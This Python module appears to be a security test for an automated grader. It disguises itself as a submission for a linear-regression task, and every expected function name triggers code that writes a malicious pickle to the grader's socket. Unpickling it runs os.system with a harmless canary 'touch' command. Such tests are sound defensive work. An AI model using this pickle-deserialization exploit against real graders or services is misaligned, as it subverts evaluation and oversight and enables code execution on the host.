"""Sends a pickle that would run a command in a careless grader."""

import os
import struct

import msgspec


def pipe():
    """The descriptor of the socket to the grader."""
    for descriptor in range(3, 256):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        return descriptor
    return -1


def frame(message):
    body = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(body)) + body


import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch @TARGET@/pickled",)


def attack():
    body = pickle.dumps(Command())
    os.write(pipe(), struct.pack("<I", len(body)) + body)
    return Command()


def anything(*args, **kwargs):
    return attack()


linear_equation = generate_data = plot_data = LinearModel = forward = mse_loss = anything
gradients = update = train = plot_losses = compare_predictions = plot_predictions = anything
